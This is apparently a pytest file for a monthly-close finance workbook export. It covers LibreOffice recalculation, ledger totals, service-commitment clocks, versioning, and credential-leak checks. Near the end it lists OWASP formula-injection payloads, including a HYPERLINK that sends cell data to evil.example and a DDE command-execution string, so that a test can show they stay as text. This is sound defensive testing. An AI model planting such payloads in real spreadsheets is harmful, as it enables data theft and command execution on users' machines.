"""Finance's workbook: LibreOffice recalculates it to the ledger's totals, to the cent, and a finance person
reads it without a guide (French headers by default, every amount recomputable from its row, one Total row
and one check cell, the month's credit notes and credit movements, the service commitments of the tickets
closed in the month with their rate); scripts find the code names on About.

LibreOffice (Debian's libreoffice-calc) is part of the test environment: `tests/install.sh` installs
it, and these tests fail, never skip, when it is missing.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import urllib.request
import zipfile
from datetime import datetime, timezone
from decimal import ROUND_HALF_UP, Decimal
from itertools import takewhile
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from blocks.storage import ObjectStorage
from ledger.db import session_scope
from ledger.imports import import_file
from ledger.models import Export, Invoice, Ticket
from policy.calendar import PARIS
from policy.terms import Terms
from reports.billable_workbook import MOMENT
from tests.support.builders import CUSTOMER_HEADER, customer, write_csv
from tests.support.ports import free_port
from tests.support.scenarios import HEADER, load_october

pytestmark = pytest.mark.prefect


@pytest.fixture
def october(prefect_server, home, ledger, tmp_path):
    return load_october(ledger, tmp_path)


def recalculate(path: Path, folder: Path) -> Path:
    """Open and save the workbook with headless LibreOffice, as a finance user's spreadsheet would."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is required for these tests: run tests/install.sh"
    folder.mkdir(exist_ok=True)
    subprocess.run([soffice, "--headless", "--calc", "--convert-to", "xlsx", "--outdir", str(folder), str(path)],
                   check=True, capture_output=True, timeout=180,
                   env={"HOME": str(folder), "PATH": "/usr/bin:/bin"})
    return folder / path.name


def fetch(key: str, target: Path) -> Path:
    with ObjectStorage().store().open(key) as source:
        target.write_bytes(source.read())
    return target


def ledger_totals(ledger, month):
    with session_scope(ledger) as session:
        return session.execute(select(func.sum(Invoice.total_ht), func.sum(Invoice.total_vat), func.sum(Invoice.total_ttc))
                               .where(Invoice.close_month == month)).one()


def rows(sheet):
    values = list(sheet.iter_rows(values_only=True))
    return values[0], values[1:]


def about_of(workbook) -> dict:
    """The About sheet (the last one) as scripts read it: key -> value."""
    return {row[0]: row[1] for row in workbook.worksheets[-1].iter_rows(values_only=True) if row[0]}


def table(workbook, code: str) -> tuple[list[str], list[tuple]]:
    """A data sheet's column code names (from its headers, through the About sheet) and its rows."""
    about = about_of(workbook)
    name = about[f"sheet.{code}"]
    header, body = rows(workbook[name])
    return [about[f"column.{name}.{label}"] for label in header], body


def records(workbook, code: str) -> list[dict]:
    """A data sheet's data rows by code name: the rows above the blank one (then come the Total row and,
    on the Summary, the check cell)."""
    codes, body = table(workbook, code)
    return [dict(zip(codes, row)) for row in takewhile(any, body)]


def total_row(workbook, code: str) -> dict:
    codes, body = table(workbook, code)
    [total] = [row for row in body if row[0] == "Total"]
    return dict(zip(codes, total))


def cents(value) -> Decimal:
    return round(Decimal(str(value)), 2)


def corrections_in_october(ledger, tmp_path):
    """Before the October close: ACME pays an old invoice twice (the excess is credit), is refunded part of
    it, and the invoice is credited by a credit note although it was paid (all of it becomes credit)."""
    from datetime import date

    from operations.corrections import issue_credit_note, record_refund

    import_file("invoices", write_csv(tmp_path / "old.csv", ["invoice_id", "customer_id", "issued_on", "due_on",
                                                              "amount_ht", "vat_rate"],
                                      [["OLD-1", "ACME", "2026-09-15", "2026-10-15", "100.00", "0.20"]]), engine=ledger)
    import_file("payments", write_csv(tmp_path / "p.csv", ["payment_id", "invoice_id", "paid_on", "amount"],
                                      [["PAY-1", "OLD-1", "2026-10-06", "120.00"],
                                       ["PAY-2", "OLD-1", "2026-10-07", "120.00"]]), engine=ledger)
    record_refund("ACME", "50.00", "VIR-1", date(2026, 10, 8), actor="test", flow_run_id=None)
    note = issue_credit_note("OLD-1", "=Goodwill for the outage", "claire.finance", amount_ttc="24.00",
                             wanted_on=date(2026, 10, 20), request="goodwill", actor="test", flow_run_id=None)
    return note.number


def test_the_close_writes_a_workbook_libreoffice_recalculates_to_the_ledger(october, tmp_path):
    from flows.monthly_close import monthly_close
    from operations.export import export_month

    note = corrections_in_october(october, tmp_path)
    monthly_close(month="2026-10")
    with session_scope(october) as session:
        export = session.scalars(select(Export)).one()
    assert export.key == "exports/2026/10/2026-10_billable-interventions.xlsx"
    original = fetch(export.key, tmp_path / "2026-10_billable-interventions.xlsx")
    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
    # French by default, headers a finance person reads; the About sheet names each header's code
    assert computed.sheetnames == ["Synthèse", "Interventions", "Factures", "Avoirs", "Crédits clients", "Engagements",
                                   "Mesures des engagements", "À propos"]
    header, body = rows(computed["Synthèse"])
    assert header[:2] == ("Client", "Raison sociale") and header[-3:] == ("Total HT", "TVA", "Total TTC")
    about = about_of(computed)
    assert about["language"] == "fr" and about["column.Synthèse.Total TTC"] == "total_ttc"
    assert about["column.Interventions.Taux horaire HT appliqué"] == "hourly_rate"
    assert about["month"] == "2026-10" and about["included_minutes"] == 120 and about["close"] == "finalised"

    # one Total row, recalculated by LibreOffice: the ledger's totals to the cent, in every column
    ht, vat, ttc = ledger_totals(october, "2026-10")
    assert (ht, vat, ttc) == (Decimal("1403.87"), Decimal("259.03"), Decimal("1662.90"))
    customers = records(computed, "summary")
    total = total_row(computed, "summary")
    assert [r for r in body if r[0] in ("Total (formulas)", "Total (values)")] == []
    for name, expected in (("total_ht", ht), ("total_vat", vat), ("total_ttc", ttc)):
        assert cents(total[name]) == expected == cents(about[f"total.{name}"])
    money = ("subscription", "overage", "always_billed", "surcharge", "penalties")
    for name in money + ("included_minutes", "used_minutes", "over_minutes"):
        assert cents(total[name]) == sum(cents(r[name]) for r in customers) == cents(about[f"total.{name}"])
    assert sum(cents(total[name]) for name in money) == ht
    # and one check cell, with a plain label, that is zero
    [check] = [r for r in body if r[0] == "Écart avec le grand livre (doit être 0,00)"]
    assert check[header.index("Total TTC")] == 0
    acme = next(r for r in customers if r["customer_id"] == "ACME")
    assert acme["name"] == "Société Générale d'Épargne"  # accents survive
    assert (acme["included_minutes"], acme["used_minutes"], acme["over_minutes"]) == (120, 120, 30)

    # every intervention recomputes from its row: billed minutes x the rate applied + the fixed fee
    interventions = records(computed, "interventions")
    assert len(interventions) == 9
    for row in interventions:
        fee = Decimal(str(row["fee"])) if row["fee"] is not None else Decimal("0")
        if row["billed_minutes"]:
            rate = Decimal(str(row["hourly_rate"]))
            assert cents(row["amount_ht"]) == (Decimal(row["billed_minutes"]) / 60 * rate + fee).quantize(
                Decimal("0.01"), rounding=ROUND_HALF_UP), row
        else:
            assert row["hourly_rate"] is None, row  # a free row shows no rate
            assert cents(row["amount_ht"]) == fee, row
    # A6: 20 minutes of data recovery, billed by the half hour, plus its fee
    [recovery] = [r for r in interventions if r["category"] == "data_recovery"]
    assert (recovery["billed_minutes"], cents(recovery["hourly_rate"]), cents(recovery["fee"]),
            cents(recovery["amount_ht"])) == (30, Decimal("120.00"), Decimal("250.00"), Decimal("310.00"))
    assert all(r["fee"] is None for r in interventions if r["category"] != "data_recovery")
    [urgent] = [r for r in interventions if r["category"] == "feature_urgent"]
    assert cents(urgent["hourly_rate"]) == Decimal("60.00")  # the rate after the urgent discount
    assert {r["category"] for r in interventions if r["hourly_rate"] is None} >= {"question", "bug_fix"}

    # the Summary's intervention amounts are the Interventions sheet's, its invoice totals the Invoices sheet's
    intervention_total = cents(total_row(computed, "interventions")["amount_ht"])
    assert intervention_total == sum(cents(r["amount_ht"]) for r in interventions)
    assert intervention_total == cents(total["overage"]) + cents(total["always_billed"]) == Decimal("535.00")
    invoices = records(computed, "invoices")
    assert cents(total_row(computed, "invoices")["total_ttc"]) == sum(cents(r["total_ttc"]) for r in invoices) == ttc
    assert {r["number"] for r in invoices} == {r["invoices"] for r in customers if r["invoices"]}
    assert {r["kind"] for r in invoices} == {"Mensuelle"} and {r["status"] for r in invoices} == {"À payer"}
    # each invoice's document, as the customer received it, and what is left to pay on it: ACME's
    # credit (120.00 overpaid - 50.00 refunded + 24.00 credited) was applied to its October invoice
    assert {r["document"] for r in invoices} == {f"invoices/{r['issued_on']:%Y/%m}/{r['number']}.pdf"
                                                 for r in invoices}
    for row in invoices:
        applied = Decimal("94.00") if row["customer_id"] == "ACME" else Decimal("0.00")
        assert cents(row["balance"]) == cents(row["total_ttc"]) - applied, row

    # the credit note issued in October, negative as in the ledger, and the credit movements dated in October
    [credit_note] = records(computed, "credit_notes")
    assert (credit_note["number"], credit_note["customer_id"], credit_note["credits"], credit_note["reason"]) == (
        note, "ACME", "OLD-1", "=Goodwill for the outage")  # a reason that looks like a formula stays text
    assert [cents(credit_note[name]) for name in ("total_ht", "total_vat", "total_ttc")] == [
        Decimal("-20.00"), Decimal("-4.00"), Decimal("-24.00")]
    assert cents(total_row(computed, "credit_notes")["total_ttc"]) == Decimal("-24.00")
    movements = records(computed, "credits")
    assert [(r["on"].date().isoformat(), r["customer_id"], r["kind"], cents(r["amount"]), r["reference"])
            for r in movements] == [
        ("2026-10-07", "ACME", "Trop-perçu", Decimal("120.00"), "PAY-2"),
        ("2026-10-08", "ACME", "Remboursement", Decimal("-50.00"), "VIR-1"),
        ("2026-10-20", "ACME", "Avoir au-delà du solde", Decimal("24.00"), note)]
    assert cents(total_row(computed, "credits")["amount"]) == Decimal("94.00")
    # the credit applied at the close is a movement of the month the October invoices were issued
    [acme_invoice] = [r for r in invoices if r["customer_id"] == "ACME"]
    issued = f"{acme_invoice['issued_on']:%Y-%m}"
    later = export_month(issued, ObjectStorage(), Terms(), flow_run_id=None)
    next_month = load_workbook(fetch(later.key, tmp_path / "later.xlsx"))
    assert [(r["kind"], cents(r["amount"]), r["reference"]) for r in records(next_month, "credits")
            if r["kind"] == "Imputé sur facture"] == [("Imputé sur facture", Decimal("-94.00"), acme_invoice["number"])]

    # formats: amounts are numbers in EUR, dates are dates, frozen headers, filters, readable widths
    raw = load_workbook(original)
    summary, intervention_sheet, invoice_sheet = raw["Synthèse"], raw["Interventions"], raw["Factures"]
    assert summary["L2"].data_type == "n" and "€" in summary["L2"].number_format
    assert isinstance(invoice_sheet["G2"].value, datetime) and invoice_sheet["G2"].number_format == "yyyy-mm-dd"
    assert isinstance(intervention_sheet["A2"].value, datetime) and intervention_sheet["A2"].number_format == MOMENT
    for sheet in raw.worksheets[:7]:
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
        assert sheet.column_dimensions["B"].width >= 10


def paris(day: str, at: str) -> datetime:
    """A Paris wall-clock time in October-November 2026, as the aware instant the ledger stores."""
    return datetime.fromisoformat(f"{day}T{at}").replace(tzinfo=PARIS)


SECRET = "gAAAA-secret-token"


def tickets_in_october(ledger) -> None:
    """Tickets written straight into the ledger (as the tickets import leaves them). Due times worked out by
    hand from docs/reference/policy.md "Service commitments" (working time Monday-Friday 09:00-18:00 Paris; no French public
    holiday in October 2026; 1 November is a Sunday):

    T-MET    question, Friday 2 Oct 17:00: first response due 2 working days later at the same time, Tuesday
             6 Oct 17:00 (the policy's own example); answered Monday 5 Oct 10:00 -> met.
    T-MISSED assistance, Saturday 10 Oct 11:00: the clock starts at the next opening, Monday 12 Oct 09:00,
             due Wednesday 14 Oct 09:00 (the policy: "on Saturday, Wednesday 09:00"); answered 09:30 -> missed.
             It carries credentials (a Fernet token) that must never reach the workbook.
    T-LATE   bug (major, level 2), Thursday 1 Oct 10:00: first response due Monday 5 Oct 10:00 (Friday is
             working day 1, Monday 2), answered the same morning -> met. Delivery due at 18:00 of the 15th
             working day after 1 Oct: 2 Oct (1), 5-9 (2-6), 12-16 (7-11), 19-22 (12-15) -> Thursday 22 Oct
             18:00; resolved Friday 23 Oct 10:00 -> missed. Closed Monday 26 Oct, after the DST change.
    T-BLOCK  blocking bug (critical), Tuesday 20 Oct 16:00: first response due Thursday 22 Oct 16:00, answered
             16:30 -> met. Workaround within 4 working hours: 16:00-18:00 then Wednesday 09:00-11:00 ->
             due Wednesday 21 Oct 11:00; worked around 10:30 -> met.
    T-REPLY  question, Monday 12 Oct 10:00, closed at 12:00 and answered the next day: as of the close the
             reply was not there, the clock stopped at the close, before its due (Wednesday 14 Oct 10:00) -> met.
    T-FEAT   new feature, Monday 5 Oct 10:00: first response due Wednesday 7 Oct 10:00, answered at 11:00 ->
             met; the feature's month is for information (due 5 Nov 10:00). Closed Saturday 31 Oct 23:30
             Paris: still October.
    Not in October: T-EDGE closed 1 Nov 00:30 Paris (31 Oct 23:30 UTC), T-NOV closed 2 Nov, T-OPEN not closed.
    """
    stamp = datetime.now(timezone.utc)
    rows = [
        dict(ticket_id="T-MET", customer_id="ACME", type="question", channel="mail",
             received_at=paris("2026-10-02", "17:00"), first_response_at=paris("2026-10-05", "10:00"),
             closed_at=paris("2026-10-06", "12:00")),
        dict(ticket_id="T-MISSED", customer_id="BETA", type="assistance", channel="form",
             received_at=paris("2026-10-10", "11:00"), first_response_at=paris("2026-10-14", "09:30"),
             closed_at=paris("2026-10-15", "10:00"), credentials_token=SECRET),
        dict(ticket_id="T-LATE", customer_id="ACME", type="bug", severity="major", level=2, channel="mail",
             received_at=paris("2026-10-01", "10:00"), first_response_at=paris("2026-10-01", "11:00"),
             resolved_at=paris("2026-10-23", "10:00"), closed_at=paris("2026-10-26", "09:00")),
        dict(ticket_id="T-BLOCK", customer_id="BETA", type="blocking_bug", severity="critical", level=1,
             channel="phone", received_at=paris("2026-10-20", "16:00"), first_response_at=paris("2026-10-20", "16:30"),
             workaround_at=paris("2026-10-21", "10:30"), closed_at=paris("2026-10-21", "15:00")),
        dict(ticket_id="T-REPLY", customer_id="GAMMA", type="question", channel="mail",
             received_at=paris("2026-10-12", "10:00"), first_response_at=paris("2026-10-13", "09:00"),
             closed_at=paris("2026-10-12", "12:00")),
        dict(ticket_id="T-FEAT", customer_id="ACME", type="new_feature", channel="mail",
             received_at=paris("2026-10-05", "10:00"), first_response_at=paris("2026-10-05", "11:00"),
             resolved_at=paris("2026-10-30", "10:00"), closed_at=paris("2026-10-31", "23:30")),
        dict(ticket_id="T-EDGE", customer_id="ACME", type="question", channel="mail",
             received_at=paris("2026-10-30", "10:00"), closed_at=paris("2026-11-01", "00:30")),
        dict(ticket_id="T-NOV", customer_id="BETA", type="question", channel="mail",
             received_at=paris("2026-10-28", "10:00"), first_response_at=paris("2026-10-30", "11:00"),
             closed_at=paris("2026-11-02", "10:00")),
        dict(ticket_id="T-OPEN", customer_id="ACME", type="bug", severity="minor", channel="mail",
             received_at=paris("2026-10-05", "10:00"), credentials_token=SECRET),
    ]
    with session_scope(ledger, write=True) as session:
        session.add_all(Ticket(**row, source="import", created_at=stamp, updated_at=stamp) for row in rows)


def rate_table(workbook) -> tuple[list[dict], dict]:
    """The Commitments sheet's second table (below the clocks, its header mapped on About): its rows by code
    name, and its Total row."""
    about = about_of(workbook)
    name = about["sheet.commitments"]
    body = list(workbook[name].iter_rows(values_only=True))[1:]
    [start] = [index for index, row in enumerate(body) if about.get(f"column.{name}.{row[0]}") == "type"]
    codes = [about[f"column.{name}.{cell}"] for cell in body[start] if cell is not None]
    rates = [dict(zip(codes, row)) for row in takewhile(any, body[start + 1:])]
    [total] = [dict(zip(codes, row)) for row in body[start + 1:] if row[0] == "Total"]
    return rates, total


def every_value(path: Path) -> list:
    return [value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows(values_only=True)
            for value in row if value is not None]


def test_the_commitments_sheet_gives_each_closed_tickets_clocks_and_the_months_rate(october, tmp_path):
    from flows.monthly_close import monthly_close
    from operations.export import export_month

    tickets_in_october(october)
    monthly_close(month="2026-10")
    with session_scope(october) as session:
        export = session.scalars(select(Export)).one()
    original = fetch(export.key, tmp_path / "2026-10_billable-interventions.xlsx")
    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
    about = about_of(computed)
    assert computed.sheetnames[5] == about["sheet.commitments"] == "Engagements"
    assert about["column.Engagements.Engagement"] == "clock" and about["column.Engagements.Taux de respect"] == "rate"
    assert about["commitment.blocking_workaround"] == "1 working days; critical: 4 working hours"

    # one row per clock of each ticket closed in the Paris month, in the order of the close, times in Paris
    clocks = records(computed, "commitments")
    at = datetime.fromisoformat
    assert [(r["ticket_id"], r["clock"], r["due_at"], r["stopped_at"], r["result"]) for r in clocks] == [
        ("T-MET", "Première réponse", at("2026-10-06 17:00"), at("2026-10-05 10:00"), "Tenu"),
        ("T-REPLY", "Première réponse", at("2026-10-14 10:00"), at("2026-10-12 12:00"), "Tenu"),
        ("T-MISSED", "Première réponse", at("2026-10-14 09:00"), at("2026-10-14 09:30"), "Manqué"),
        ("T-BLOCK", "Première réponse", at("2026-10-22 16:00"), at("2026-10-20 16:30"), "Tenu"),
        ("T-BLOCK", "Contournement (bug bloquant)", at("2026-10-21 11:00"), at("2026-10-21 10:30"), "Tenu"),
        ("T-LATE", "Première réponse", at("2026-10-05 10:00"), at("2026-10-01 11:00"), "Tenu"),
        ("T-LATE", "Livraison", at("2026-10-22 18:00"), at("2026-10-23 10:00"), "Manqué"),
        ("T-FEAT", "Première réponse", at("2026-10-07 10:00"), at("2026-10-05 11:00"), "Tenu"),
        ("T-FEAT", "Nouvelle fonctionnalité (information)", at("2026-11-05 10:00"), at("2026-10-30 10:00"),
         "Information")]
    [late] = [r for r in clocks if r["clock"] == "Livraison"]
    assert (late["customer_id"], late["customer_name"], late["type"], late["severity"], late["level"],
            late["received_at"], late["closed_at"]) == ("ACME", "Société Générale d'Épargne", "Bug non bloquant",
                                                        "Majeure", 2, at("2026-10-01 10:00"), at("2026-10-26 09:00"))
    assert [r["closed_at"] for r in clocks if r["ticket_id"] == "T-FEAT"] == [at("2026-10-31 23:30")] * 2

    # the month's rate per request type and severity, recalculated by LibreOffice: met / (met + missed)
    rates, total = rate_table(computed)
    assert [(r["type"], r["severity"], r["clocks"], r["met"], r["missed"]) for r in rates] == [
        ("Bug bloquant", "Critique", 2, 2, 0), ("Bug non bloquant", "Majeure", 2, 1, 1),
        ("Nouvelle fonctionnalité", "(non renseignée)", 1, 1, 0), ("Question", "(non renseignée)", 2, 2, 0),
        ("Assistance", "(non renseignée)", 1, 0, 1)]
    for row in rates + [total]:
        assert round(row["rate"] * 100) == round(row["met"] / (row["met"] + row["missed"]) * 100), row
    assert [round(r["rate"] * 100) for r in rates] == [100, 50, 100, 100, 0]
    assert (total["clocks"], total["met"], total["missed"], round(total["rate"] * 100)) == (8, 6, 2, 75)

    # the rate is a formula over its row, shown as a percentage; every other formula is a Total's SUM
    raw = load_workbook(original)
    sheet = raw["Engagements"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M10"
    assert sheet["G2"].number_format == MOMENT and isinstance(sheet["G2"].value, datetime)
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert {cell.column_letter for cell in formulas} == {"C", "D", "E", "F"}
    assert all(cell.value.startswith("=SUM(") for cell in formulas if cell.column_letter != "F")
    rate_cells = [cell for cell in formulas if cell.column_letter == "F"]
    assert len(rate_cells) == 6 and all("%" in cell.number_format for cell in rate_cells)
    assert rate_cells[0].value == f'=IF(D{rate_cells[0].row}+E{rate_cells[0].row}=0,"",' \
                                  f'D{rate_cells[0].row}/(D{rate_cells[0].row}+E{rate_cells[0].row}))'

    # tickets closed outside the month are absent, and credentials reach no cell and no part of the file
    shown = {r["ticket_id"] for r in clocks}
    assert not shown & {"T-EDGE", "T-NOV", "T-OPEN"}
    for path in (original, tmp_path / "recalc" / original.name):
        assert not [value for value in every_value(path) if SECRET in str(value) or "gAAAA" in str(value)]
        with zipfile.ZipFile(path) as archive:
            assert not [name for name in archive.namelist() if b"gAAAA" in archive.read(name)]

    # in English when the terms say so: November (no close, the fallback terms) has the tickets closed then
    english = export_month("2026-11", ObjectStorage(), Terms(workbook_language="en"), flow_run_id=None)
    workbook = load_workbook(fetch(english.key, tmp_path / "november.xlsx"))
    assert workbook.sheetnames[5] == "Commitments"
    assert workbook.sheetnames[-1] == "About" and about_of(workbook)["language"] == "en"  # workbook_language
    assert [cell.value for cell in workbook["Commitments"][1]][:4] == ["Ticket", "Customer", "Company name",
                                                                       "Request type"]
    # T-EDGE: Friday 30 Oct 10:00, due Tuesday 3 Nov 10:00, closed unanswered on Sunday 1 Nov -> met at the
    # close; T-NOV: Wednesday 28 Oct 10:00, due Friday 30 Oct 10:00, answered 11:00 -> missed
    assert [(r["ticket_id"], r["clock"], r["due_at"], r["result"]) for r in records(workbook, "commitments")] == [
        ("T-EDGE", "First response", at("2026-11-03 10:00"), "Met"),
        ("T-NOV", "First response", at("2026-10-30 10:00"), "Missed")]
    rates, total = rate_table(workbook)
    assert [(r["type"], r["severity"], r["clocks"], r["met"], r["missed"]) for r in rates] == [
        ("Question", "(not set)", 2, 1, 1)]
    assert total["type"] == "Total" and str(total["rate"]).startswith("=IF(")


def test_unchanged_content_writes_nothing_and_changed_content_is_a_new_version(october, tmp_path):
    from flows.exports import billable_export
    from flows.monthly_close import monthly_close

    monthly_close(month="2026-10")
    again = billable_export(month="2026-10")
    assert (again["new"], again["version"]) == (False, 1)
    import_file("customers", write_csv(tmp_path / "rename.csv", CUSTOMER_HEADER,
                                       [customer("BETA", name="Beta Renamed SAS", fee="300.00", method="card")]),
                engine=october)
    changed = billable_export(month="2026-10")
    assert (changed["new"], changed["version"]) == (True, 2)
    assert changed["key"] == "exports/2026/10/2026-10_billable-interventions_v2.xlsx"
    keys = [item.key for item in ObjectStorage().store().list("exports/")]
    assert keys == ["exports/2026/10/2026-10_billable-interventions.xlsx",
                    "exports/2026/10/2026-10_billable-interventions_v2.xlsx"]


def test_an_export_is_refused_while_the_month_has_drafts(october):
    from ledger.db import session_scope as scope
    from policy.terms import Terms
    from operations.export import ExportRefused, export_month
    from operations.close import draft

    draft("2026-10", Terms(), actor="test", flow_run_id=None)
    with pytest.raises(ExportRefused, match="2026-10 has 3 draft invoice"):
        export_month("2026-10", ObjectStorage(), Terms(), flow_run_id=None)
    with scope(october) as session:
        assert session.scalar(select(func.count()).select_from(Export)) == 0


def test_an_empty_month_gives_a_workbook_that_says_so_in_the_terms_language(october, tmp_path):
    from flows.exports import billable_export
    from operations.export import export_month

    result = billable_export(month="2026-07")
    workbook = load_workbook(fetch(result["key"], tmp_path / "empty.xlsx"))
    assert any("Aucune intervention facturable ni facture pour 2026-07." == r[0]
               for r in workbook["Synthèse"].iter_rows(values_only=True))
    assert workbook["Factures"]["A2"].value == "Aucune facture pour 2026-07."
    assert workbook["Avoirs"]["A2"].value == "Aucun avoir émis en 2026-07."
    assert workbook["Engagements"]["A2"].value == "Aucun ticket clos en 2026-07."

    # in English when the terms say so: sheet names, headers, sentences, the check cell's label; the About
    # sheet keeps the code names
    english = export_month("2026-07", ObjectStorage(), Terms(workbook_language="en"), flow_run_id=None)
    assert english.new and english.version == 2
    workbook = load_workbook(fetch(english.key, tmp_path / "empty-en.xlsx"))
    assert workbook.sheetnames == ["Summary", "Interventions", "Invoices", "Credit notes", "Customer credits",
                                   "Commitments", "Commitment metrics", "About"]
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    assert summary[0][:2] == ("Customer", "Company name") and summary[0][-1] == "Total incl. VAT"
    assert summary[1][0] == "No billable intervention or invoice for 2026-07."
    assert summary[-1][0] == "Difference with the ledger (must be 0.00)"
    assert summary[-1][-1] == "=ROUND(N4-0.00,2)"
    assert workbook["Invoices"]["A2"].value == "No invoice for 2026-07."
    assert workbook["Customer credits"]["A1"].value == "Date"
    assert workbook["Customer credits"]["A2"].value == "No customer credit movement in 2026-07."
    assert workbook["Commitments"]["A2"].value == "No ticket closed in 2026-07."
    assert workbook["Commitment metrics"]["A2"].value == "No ticket closed in 2026-07."
    assert [row for row in workbook["Commitments"].iter_rows(values_only=True) if any(row)][2:] == []  # no rates
    about = about_of(workbook)
    assert about["column.Summary.Total incl. VAT"] == "total_ttc" and about["column.Invoices.Left to pay"] == "balance"
    assert about["total.total_ttc"] == 0 and about["language"] == "en"


def test_a_month_not_begun_is_refused_by_the_deployment_and_writes_no_workbook(october):
    from flows.exports import billable_export
    from policy.calendar import add_months, month_key, today_paris

    today = today_paris()
    coming = month_key(add_months(today.replace(day=1), 1))
    state = billable_export(month=coming, return_state=True)
    assert state.is_failed() and state.name == "Refused"
    assert state.message == (f"the month {coming} has not begun (it begins on {coming}-01; today is {today}): "
                             f"nothing to export")
    with session_scope(october) as session:
        assert session.scalar(select(func.count()).select_from(Export)) == 0
    assert list(ObjectStorage().store().list("exports/")) == []


def test_the_link_artifact_downloads_the_workbook_in_the_embedded_default(october, prefect_server, monkeypatch, home):
    from flows.exports import billable_export
    from lifecycle.downloads import serve_exports

    port = free_port()
    server = serve_exports(home / "objects", "127.0.0.1", port)
    monkeypatch.setenv("LIFECYCLE_DOWNLOAD_URL", f"http://127.0.0.1:{port}")
    try:
        state = billable_export(month="2026-10", return_state=True)
        run_id = str(state.state_details.flow_run_id)
        artifacts = httpx.post(f"{prefect_server}/artifacts/filter",
                               json={"flow_runs": {"id": {"any_": [run_id]}}, "limit": 10}).json()
        [link] = [a for a in artifacts if a["key"] == "billable-export"]
        url = link["data"].split("](")[1].rstrip(")")
        assert url == f"http://127.0.0.1:{port}/exports/2026/10/2026-10_billable-interventions.xlsx"
        with urllib.request.urlopen(url) as response:
            downloaded = response.read()
            assert "attachment" in response.headers["Content-Disposition"]
        with ObjectStorage().store().open(state.result()["key"]) as stored:
            assert downloaded == stored.read()
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/../ledger.db")
    finally:
        server.shutdown()


#: OWASP's CSV/formula injection payloads, as names and engineers a hostile customer or helpdesk could send
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1+2", "-1+2", "@SUM(1+2)",
            "=cmd|' /C calc'!A0", "=1+2;=3+4", "-@1+2"]


def test_no_formula_ever_comes_from_data(prefect_server, home, ledger, tmp_path):
    """Names, engineers and descriptions that look like formulas stay text: in the sheet XML no data cell
    is a formula, and LibreOffice's recalculation shows each one exactly as typed."""
    from flows.monthly_close import monthly_close
    customers = [customer(f"X{index}", name=payload) for index, payload in enumerate(PAYLOADS)]
    import_file("customers", write_csv(tmp_path / "c.csv", CUSTOMER_HEADER, customers), engine=ledger)
    import_file("interventions", write_csv(tmp_path / "i.csv", HEADER + ["engineer", "description"], [
        [f"I{index}", f"X{index}", "2026-10-02T09:00", "200", "assistance", payload, payload]
        for index, payload in enumerate(PAYLOADS)]), engine=ledger)
    monthly_close(month="2026-10")
    with session_scope(ledger) as session:
        key = session.scalars(select(Export)).one().key
    original = fetch(key, tmp_path / "hostile.xlsx")

    with zipfile.ZipFile(original) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                formulas = re.findall(r"<f>(.*?)</f>", xml)
                # the only formulas are ours: the Summary's SUM totals and its ROUND check
                assert all(f.startswith(("SUM(", "ROUND(")) for f in formulas), (name, formulas)
    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
    names = {r["customer_id"]: r["name"] for r in records(computed, "summary") if str(r["customer_id"]).startswith("X")}
    assert names == {f"X{index}": payload for index, payload in enumerate(PAYLOADS)}
    assert sorted(r["engineer"] for r in records(computed, "interventions")) == sorted(PAYLOADS)


@pytest.fixture(params=["folder", "s3"])
def export_store(request, monkeypatch):
    """Where workbooks go: the home's folder, or a bucket on an S3 server over HTTP."""
    if request.param == "s3":
        import uuid

        import boto3

        from tests.support.servers import s3_server

        with s3_server() as endpoint:
            bucket = f"exports-{uuid.uuid4().hex[:8]}"
            boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="test",
                         aws_secret_access_key="test").create_bucket(Bucket=bucket)
            for key, value in {"AWS_ENDPOINT_URL": endpoint, "AWS_ACCESS_KEY_ID": "test",
                               "AWS_SECRET_ACCESS_KEY": "test", "AWS_DEFAULT_REGION": "us-east-1",
                               "LIFECYCLE_STORAGE_URL": f"s3://{bucket}/lifecycle"}.items():
                monkeypatch.setenv(key, value)
            yield request.param
    else:
        yield request.param


def test_a_workbook_deleted_from_storage_is_written_again_and_out_copies_it(october, export_store, prefect_server,
                                                                             tmp_path):
    """Someone deleted the stored workbook: the next export of the unchanged month writes it again under its
    name (same version), so the link is live again and --out copies it."""
    from ledger.models import AuditEntry
    from tests.support.cli import lifecycle_in_process

    def lifecycle(*args):  # in this process: the exports' lines, files and ledger rows are judged, not a process
        return lifecycle_in_process(*args, env={**__import__("os").environ, "PREFECT_API_URL": prefect_server})

    key = "exports/2026/10/2026-10_billable-interventions.xlsx"
    first = lifecycle("run", "export", "--month", "2026-10")
    assert first.returncode == 0, first.stderr
    store = ObjectStorage().store()
    with store.open(key) as stored:
        original = stored.read()
    store.delete(key)                                        # by hand, in the bucket or the folder
    assert not store.exists(key)

    folder = tmp_path / "finance"
    again = lifecycle("run", "export", "--month", "2026-10", "--out", str(folder))
    assert again.returncode == 0, again.stderr
    assert again.stdout.splitlines()[0].endswith(
        "(unchanged: no new version; its file was missing from storage and was written again)")
    assert store.exists(key)
    copied = folder / "2026-10_billable-interventions.xlsx"
    assert copied.read_bytes()[:2] == b"PK" and abs(len(copied.read_bytes()) - len(original)) < 200
    with store.open(key) as stored:
        assert stored.read() == copied.read_bytes()
    assert load_workbook(copied).sheetnames == load_workbook(fetch(key, tmp_path / "check.xlsx")).sheetnames
    with session_scope(october) as session:
        [export] = session.scalars(select(Export)).all()    # still one version: the content did not change
        assert (export.version, export.key, export.bytes) == (1, key, len(copied.read_bytes()))
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "export_rewritten")).one()
        assert entry.after["key"] == key

    # present again: the next export is plainly unchanged, and writes nothing
    third = lifecycle("run", "export", "--month", "2026-10")
